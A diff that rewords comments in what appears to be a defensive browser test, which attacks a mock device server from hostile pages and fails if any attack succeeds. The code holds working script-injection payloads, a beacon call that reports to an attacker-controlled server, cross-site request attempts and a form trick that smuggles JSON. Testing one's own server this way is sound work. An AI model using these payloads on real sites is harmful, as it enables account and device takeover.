@@ -1,7 +1,7 @@
 """Attacks a server from hostile pages in a real browser: hostile-page.py PATH-OF-UNDERSTUDY
 
-Every reply with JSON is called text/html, so that what the server repeats of a request could act as a page of its
-origin. Pages of three other origins try to run a script there and to make a sandbox. Fails if one of them does.
+JSON responses are relabelled as text/html, so that text that the server echoes could run as a page of its origin.
+Pages of three other origins try to run a script there and to create a sandbox. Fails if one of them succeeds.
 """
 import contextlib
 import json
@@ -17,8 +17,8 @@ from browser import Browser
 from dashboard import Server
 
 SCENARIO = {"name": "wrong type", "rules": [{"effect": {"fault": "wrong-type"}}]}
-# For each attack: how long a script of the attacked page would have after that page was loaded.
-PATIENCE = 0.3
+# The time in seconds for a script of the attacked page to run after the page was loaded, also beside another step.
+PATIENCE = 0.5
 
 
 class Attacker:
@@ -37,7 +37,7 @@ class Attacker:
                 elif self.path == "/done":
                     attacker.done.set()
                 body = attacker.page.encode() if self.path == "/" else b""
-                # A page that is left aborts what it asked for.
+                # The browser aborts the requests of a page that it leaves.
                 with contextlib.suppress(ConnectionError):
                     self.send_response(200)
                     self.send_header("Content-Type", "text/html; charset=utf-8")
@@ -58,7 +58,7 @@ class Attacker:
 
 
 def payloads(beacon):
-    """Markup that makes a sandbox and tells of it as soon as anything runs it: without quotes, which JSON would change.
+    """Returns markup that creates a sandbox and reports that when it is run. It has no quotes, because JSON would escape them.
     """
     act = (f"fetch('/_mock/sandboxes',{{method:'POST',body:'{{}}'}});"
            f"fetch('{beacon}/script?'+origin+location.pathname.slice(0,20))")
@@ -73,7 +73,7 @@ def payloads(beacon):
 
 
 def echoes(target, beacon):
-    """Addresses of which the server repeats a part in its reply."""
+    """Returns URLs of which the server echoes a part in its response."""
     for name, markup in payloads(beacon).items():
         text = urllib.parse.quote(markup, safe="")
         yield f"{name} in a path", f"{target}/devices/{text}"
@@ -86,7 +86,7 @@ def echoes(target, beacon):
     yield "script in the report", f"{target}/_mock/report?format=html"
 
 
-# What a page may do with an address without asking anyone.
+# Requests that a page may send to any address without a preflight.
 WAYS = {
     "top level": "location.href = address; setTimeout(finish, 1500);",
     "frame": "load(document.createElement('iframe'), address); setTimeout(finish, 1500);",
@@ -99,7 +99,7 @@ WAYS = {
 }
 
 def submission(kind, where, fields):
-    """A form of one field that submits itself."""
+    """Returns a form with one field that submits itself."""
     text = json.dumps(fields).replace("</", "<\\/")
     return f"""
 const form = document.createElement('form');
@@ -113,7 +113,7 @@ setTimeout(finish, 600);
 """
 
 
-# Straight at the control API, by everything that sends a request.
+# Attacks on the control API, by every element or function that sends a request.
 DIRECT = """
 const body = '{"name":"made-by-page"}';
 const make = `${target}/_mock/sandboxes`;
@@ -126,7 +126,7 @@ const attempts = [
   () => fetch(`${target}/_mock/state`, { method: 'PATCH', body: '{"house":{"temperature":31}}' }),
   () => fetch(`${target}/_mock/reset`, { method: 'POST', mode: 'no-cors' }),
   () => navigator.sendBeacon(make, body),
-  () => fetch(`${target}/_mock/state`).then(reply => reply.text()).then(() => fetch('/ran/read')),
+  () => fetch(`${target}/_mock/state`).then(response => response.text()).then(() => fetch('/ran/read')),
   () => fetch(make, { mode: 'no-cors' }),
 ];
 const sandboxed = document.createElement('iframe');
@@ -143,7 +143,7 @@ Promise.allSettled(attempts.map(attempt => attempt())).then(() => setTimeout(fin
 
 
 def hostile(target, address, script):
-    """A page that does one thing, and says when it has."""
+    """Returns a page that performs one attack, and reports when it is done."""
     return f"""<!doctype html><meta charset=utf-8><title>hostile</title><body><script>
 const target = {json.dumps(target)}, address = {json.dumps(address)};
 const finish = () => fetch('/done');
@@ -163,7 +163,7 @@ class Trial:
         return {sandbox["name"] for sandbox in json.loads(data)["sandboxes"]}
 
     def run(self, origin, what, target, address, script):
-        """Opens the page, waits until it has done its part, and looks at what came of it."""
+        """Opens the page, waits until it is done, and checks the effects."""
         before = self.sandboxes()
         del self.attacker.trophies[:]
         self.attacker.done.clear()
@@ -172,11 +172,11 @@ class Trial:
         page.call("Page.navigate", url=origin + "/")
         began = time.monotonic()
         while not self.attacker.done.is_set() and time.monotonic() - began < 10:
-            # A page that was left cannot say that it is done: the browser tells where it is.
+            # A page that was left cannot report that it is done, so the browser's location tells.
             try:
                 here = page.evaluate("document.readyState === 'complete' && location.href")
             except AssertionError:
-                here = None  # The page was replaced while it was asked.
+                here = None  # The page was replaced during the call.
             if here and here != origin + "/" and here != "about:blank":
                 break
             time.sleep(0.02)
@@ -204,7 +204,7 @@ def main():
     device = {"meterPointDescription": payloads(beacon)["script"]}
     assert server.ask("PATCH", "/devices/WWM-0001-12", device)[0] == 200
     markup = payloads(beacon)["script"]
-    # What a form sends as plain text is "name=value": with a few quotes around the "=", that is JSON.
+    # A form sent as plain text is "name=value": with a few quotes around the "=", that is JSON.
     posts = {"text/plain": [f'{{"name":{json.dumps(markup)},"x":"', '"}'],
              "application/x-www-form-urlencoded": ["name", markup]}
     orders = [['{"name":"made-by-form"}', ""], ['{"ttl":"5m","name":"x', 'y"}']]
